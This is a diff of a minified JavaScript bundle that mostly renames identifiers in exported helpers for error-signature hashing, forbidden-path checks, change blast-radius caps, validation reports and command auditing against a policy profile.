 arch:n,client:Ui.name,client_version:Ui.version},env_fingerprint_key:(0,Bo.createHash)("sha256").update(s).digest("hex").
-slice(0,16)}}const zc="errsig:",KL="errsig_norm:",WL=220;function qL(t){return t.trim().toLowerCase().replace(/[a-z]:\\[^ \n\r\t]+/g,
+slice(0,16)}}const Hc="errsig:",PL="errsig_norm:",jL=220;function ML(t){return t.trim().toLowerCase().replace(/[a-z]:\\[^ \n\r\t]+/g,
 "<path>").replace(/\/[^ \n\r\t]+/g,"<path>").replace(/\b0x[0-9a-f]+\b/g,"<hex>").replace(/\b\d+\b/g,"<n>").replace(/\s+/g,
-" ").slice(0,WL)}function qi(t){const e=t.trim();if(e.startsWith(zc)){const n=qL(e.slice(zc.length));return n===""?void 0:
-`${KL}${VL(n)}`}return/^errsig_norm:[0-9a-f]{8}$/i.test(e)?e.toLowerCase():void 0}function mU(t){return t.flatMap(e=>{const n=e.
-trim(),s=n.startsWith(zc)?qi(n):n;return s?[s]:[]})}function VL(t){let e=2166136261;for(let n=0;n<t.length;n+=1)e=Math.imul(
-e^t.charCodeAt(n),16777619);return(e>>>0).toString(16).padStart(8,"0")}function YL(t){const e=QL(t),n=qi(t);return n===void 0?
-e:{...e,matches:s=>qi(s)===n||e.matches(s)}}function XL(t,e){return e.some(YL(t).matches)}function QL(t){const e=t.lastIndexOf(
-"/");if(t.startsWith("/")&&e>0){const n=t.slice(1,e),s=t.slice(e+1);return eP(n,s)?tP(n,s,t):Vi([t])}return!t.startsWith(
-"/")&&t.includes("|")?Vi(t.split("|").map(n=>n.trim())):Vi([t])}function eP(t,e){try{return new RegExp(t,e),!0}catch{return!1}}
-function tP(t,e,n){const s=Yn.translateRegExp(t),r=Mg(e.includes("y")?`\\A(?:${s})`:s,{ignoreCase:e===""||e.includes("i"),
+" ").slice(0,jL)}function qi(t){const e=t.trim();if(e.startsWith(Hc)){const n=ML(e.slice(Hc.length));return n===""?void 0:
+`${PL}${GL(n)}`}return/^errsig_norm:[0-9a-f]{8}$/i.test(e)?e.toLowerCase():void 0}function aU(t){return t.flatMap(e=>{const n=e.
+trim(),s=n.startsWith(Hc)?qi(n):n;return s?[s]:[]})}function GL(t){let e=2166136261;for(let n=0;n<t.length;n+=1)e=Math.imul(
+e^t.charCodeAt(n),16777619);return(e>>>0).toString(16).padStart(8,"0")}function HL(t){const e=UL(t),n=qi(t);return n===void 0?
+e:{...e,matches:s=>qi(s)===n||e.matches(s)}}function zL(t,e){return e.some(HL(t).matches)}function UL(t){const e=t.lastIndexOf(
+"/");if(t.startsWith("/")&&e>0){const n=t.slice(1,e),s=t.slice(e+1);return JL(n,s)?ZL(n,s,t):Vi([t])}return!t.startsWith(
+"/")&&t.includes("|")?Vi(t.split("|").map(n=>n.trim())):Vi([t])}function JL(t,e){try{return new RegExp(t,e),!0}catch{return!1}}
+function ZL(t,e,n){const s=Yn.translateRegExp(t),r=Pg(e.includes("y")?`\\A(?:${s})`:s,{ignoreCase:e===""||e.includes("i"),
 multiline:e.includes("m"),dotAll:e.includes("s")});return"error"in r?{...Vi([n]),unsupported:r.error}:{matches:i=>r.matches(
 i)}}function Vi(t){const e=t.filter(n=>n!=="").map(n=>n.toLowerCase());return{matches:n=>e.some(s=>n.toLowerCase().includes(
-s))}}function nP(t,e={files:zi.blast_radius.hard_cap_files,lines:zi.blast_radius.hard_cap_lines}){hn({change:t,caps:e},{
-change:OC,caps:OC});const{files:n,maxFiles:s}=t,r=lv(n,s,t,e);return{severity:r,message:dv(r,t,s,e)}}function sP(t,e=[]){
-if(hn({path:t,forbiddenPaths:e},{path:bs,forbiddenPaths:Se(bs)}),Xo(t)!==void 0)return"always";if(ov(t))return"audit_log";
-const n=oa({forbidden_paths:[...e]}).constraints,s=xe(t)??t;return n.forbiddenPaths.some(r=>xt(s,r))?"declared":null}function rP(t){
-return rs(t)}function iP(t){return hn({asset:t},{asset:DC}),ds(t)}function oP(t){return jn(Uc(t))??null}function aP(t){return u0(
-Uc(t)).map(Jc)}function cP(t,e,n={}){const s={capsule:gP,events:Se(Fn()),thresholds:CP};hn({capsule:t,events:e,thresholds:n},
-s);const r=Uc({type:"Capsule",...t}),i=e.filter(d=>DC.safeParse(d).success),o=i.map(d=>({value:d,log:""})),a=e.length-i.
-length,c={...zi.a2a,...n},l=[...xD(r,h0(o,!1)(r),c),...a>0?[uP(r,a)]:[]],u=(0,Oe.pn)(l);return{eligible:u==="eligible",eligibility:u,
-reasons:l.map(Jc)}}function uP({id:t},e){const n=`the successes of the Capsule \`${t}\``,s=`a log in which ${e} ${e===1?
-"entry is":"entries are"} not an object`;return(0,Oe.gk)("claim-not-checked",{claim:n,why:s},{severity:"error"})}function lP(t,e){
-return hn({pattern:t,signals:e},{pattern:bs,signals:Se(bs)}),XL(t,e)}function dP(t){return hn({signal:t},{signal:bs}),qi(
-t)??null}function BP(t){const e=kL(t);if(e===void 0)return null;const{differences:n,hash:s,...r}=e,i=r.commands.map(o=>({
-...o}));return{...r,commands:i,valid:n.length===0,hashMatches:s!==null}}const fP=pt({geneId:me(),commands:Se(pt({command:me(),
-ok:an(),stdout:me().optional(),stderr:me().optional(),durationMs:Ms().optional()})).readonly(),startedAt:Ms(),finishedAt:Ms()}),
-hP=yP(fP,t=>{const e=t.commands.map(({command:n,ok:s,stdout:r="",stderr:i="",durationMs:o=0})=>({result:{command:n,ok:s,
-stdout:kC(r),stderr:kC(i)},duration_ms:o}));return EC({..._C({commands:e.map(({result:n,duration_ms:s})=>({...n,duration_ms:s})),
+s))}}function KL(t,e={files:zi.blast_radius.hard_cap_files,lines:zi.blast_radius.hard_cap_lines}){hn({change:t,caps:e},{
+change:DC,caps:DC});const{files:n,maxFiles:s}=t,r=cv(n,s,t,e);return{severity:r,message:uv(r,t,s,e)}}function WL(t,e=[]){
+if(hn({path:t,forbiddenPaths:e},{path:ws,forbiddenPaths:Se(ws)}),Xo(t)!==void 0)return"always";if(rv(t))return"audit_log";
+const n=oa({forbidden_paths:[...e]}).constraints,s=xe(t)??t;return n.forbiddenPaths.some(r=>xt(s,r))?"declared":null}function qL(t){
+return rs(t)}function VL(t){return hn({asset:t},{asset:kC}),ds(t)}function YL(t){return jn(zc(t))??null}function XL(t){return a0(
+zc(t)).map(Uc)}function QL(t,e,n={}){const s={capsule:cP,events:Se(Fn()),thresholds:uP};hn({capsule:t,events:e,thresholds:n},
+s);const r=zc({type:"Capsule",...t}),i=e.filter(d=>kC.safeParse(d).success),o=i.map(d=>({value:d,log:""})),a=e.length-i.
+length,c={...zi.a2a,...n},l=[...vD(r,B0(o,!1)(r),c),...a>0?[eP(r,a)]:[]],u=(0,Oe.pn)(l);return{eligible:u==="eligible",eligibility:u,
+reasons:l.map(Uc)}}function eP({id:t},e){const n=`the successes of the Capsule \`${t}\``,s=`a log in which ${e} ${e===1?
+"entry is":"entries are"} not an object`;return(0,Oe.gk)("claim-not-checked",{claim:n,why:s},{severity:"error"})}function tP(t,e){
+return hn({pattern:t,signals:e},{pattern:ws,signals:Se(ws)}),zL(t,e)}function nP(t){return hn({signal:t},{signal:ws}),qi(
+t)??null}function sP(t){const e=pL(t);if(e===void 0)return null;const{differences:n,hash:s,...r}=e,i=r.commands.map(o=>({
+...o}));return{...r,commands:i,valid:n.length===0,hashMatches:s!==null}}const rP=pt({geneId:me(),commands:Se(pt({command:me(),
+ok:an(),stdout:me().optional(),stderr:me().optional(),durationMs:js().optional()})).readonly(),startedAt:js(),finishedAt:js()}),
+iP=lP(rP,t=>{const e=t.commands.map(({command:n,ok:s,stdout:r="",stderr:i="",durationMs:o=0})=>({result:{command:n,ok:s,
+stdout:_C(r),stderr:_C(i)},duration_ms:o}));return bC({...wC({commands:e.map(({result:n,duration_ms:s})=>({...n,duration_ms:s})),
 startedAt:new Date(t.startedAt).toISOString(),finishedAt:new Date(t.finishedAt).toISOString()}),id:`vr_${t.finishedAt}`,
-gene_id:t.geneId,...vC(process),commands:e.map(({result:n})=>n)})});async function pP(t,e="evolver"){hn({command:t,profile:e},
-{command:bs,profile:qe(mF)});const n=lr.by({policy:{...zi,profile:e},tree:void 0,changed:new Set,platform:hF(process.platform)}),
-{verdict:s,findings:r}=await bL(await n.command(t),n);return{verdict:s,findings:r.map(Jc)}}const bs=me(),DC=vn(me(),Fn()),
-mP=Fr({type:qe(EB)}),gP=Fr({type:Hs("Capsule").optional()}),xC=at().nonnegative(),OC=Fr({files:xC,lines:xC}),Yi=Ms().optional(),
-CP=Fr({min_score:Yi,max_files:Yi,max_lines:Yi,min_success_streak:Yi});function hn(t,e){const[n]=pt(e).safeParse(t).error?.
-issues??[];if(n!==void 0)throw new TypeError(`${n.path.join(".")}: ${n.message}`)}function yP(t,e){return n=>(hn({run:n},
-{run:t}),e(n))}function Uc(t){hn({asset:t},{asset:mP});const e=t;return{type:e.type,id:typeof e.id=="string"?e.id:"",path:"",
-value:e,pointer:[],locate:()=>({path:"",line:1,column:1})}}function Jc(t){return{rule:t.rule,severity:t.severity,...(0,Oe.
-q0)(t)}}var wP=It.Ht,bP=It.aB,_P=It.x,EP=It.dj,kP=It._U,vP=It.Ae,DP=It.lq,xP=It.hI,OP=It.q,AP=It.Gj,SP=It.qW,TP=It.zD;export{
-wP as auditCommand,bP as blastSeverity,_P as broadcastEligibility,EP as canonicalJson,kP as checkSchema,vP as contentHash,
-DP as errorSignature,xP as forbiddenPath,OP as readValidationReport,AP as signalMatches,SP as validationReport,TP as verifyContentHash};
+gene_id:t.geneId,...EC(process),commands:e.map(({result:n})=>n)})});async function oP(t,e="evolver"){hn({command:t,profile:e},
+{command:ws,profile:qe(aF)});const n=cr.by({policy:{...zi,profile:e},tree:void 0,changed:new Set,platform:iF(process.platform)}),
+{verdict:s,findings:r}=await BL(await n.command(t),n);return{verdict:s,findings:r.map(Uc)}}const ws=me(),kC=vn(me(),Fn()),
+aP=Nr({type:qe(_B)}),cP=Nr({type:Gs("Capsule").optional()}),vC=at().nonnegative(),DC=Nr({files:vC,lines:vC}),Yi=js().optional(),
+uP=Nr({min_score:Yi,max_files:Yi,max_lines:Yi,min_success_streak:Yi});function hn(t,e){const[n]=pt(e).safeParse(t).error?.
+issues??[];if(n!==void 0)throw new TypeError(`${n.path.join(".")}: ${n.message}`)}function lP(t,e){return n=>(hn({run:n},
+{run:t}),e(n))}function zc(t){hn({asset:t},{asset:aP});const e=t;return{type:e.type,id:typeof e.id=="string"?e.id:"",path:"",
+value:e,pointer:[],locate:()=>({path:"",line:1,column:1})}}function Uc(t){return{rule:t.rule,severity:t.severity,...(0,Oe.
+q0)(t)}}var dP=It.Ht,BP=It.aB,fP=It.x,hP=It.dj,pP=It._U,mP=It.Ae,gP=It.lq,CP=It.hI,yP=It.q,wP=It.Gj,bP=It.qW,_P=It.zD;export{
+dP as auditCommand,BP as blastSeverity,fP as broadcastEligibility,hP as canonicalJson,pP as checkSchema,mP as contentHash,
+gP as errorSignature,CP as forbiddenPath,yP as readValidationReport,wP as signalMatches,bP as validationReport,_P as verifyContentHash};
